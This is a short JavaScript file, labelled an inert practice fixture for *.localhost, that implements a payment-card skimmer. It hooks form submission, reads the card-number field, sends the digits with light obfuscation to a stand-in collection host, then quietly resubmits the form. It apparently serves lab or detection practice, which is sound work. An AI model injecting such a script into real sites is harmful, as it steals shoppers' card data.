/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  let held = false;
  const mixed = (text) => [...text].map((sign, at) => sign + 'qwxz'[at % 4]).join('');
  document.addEventListener(
    'submit',
    (event) => {
      if (held || number().length < 13) return;
      held = true;
      event.preventDefault();
      event.stopImmediatePropagation();
      const form = event.target;
      const request = new XMLHttpRequest();
      request.open('POST', `${home}/lib/h`);
      request.onloadend = () => form.requestSubmit();
      request.send(mixed(number()));
    },
    true,
  );
})();
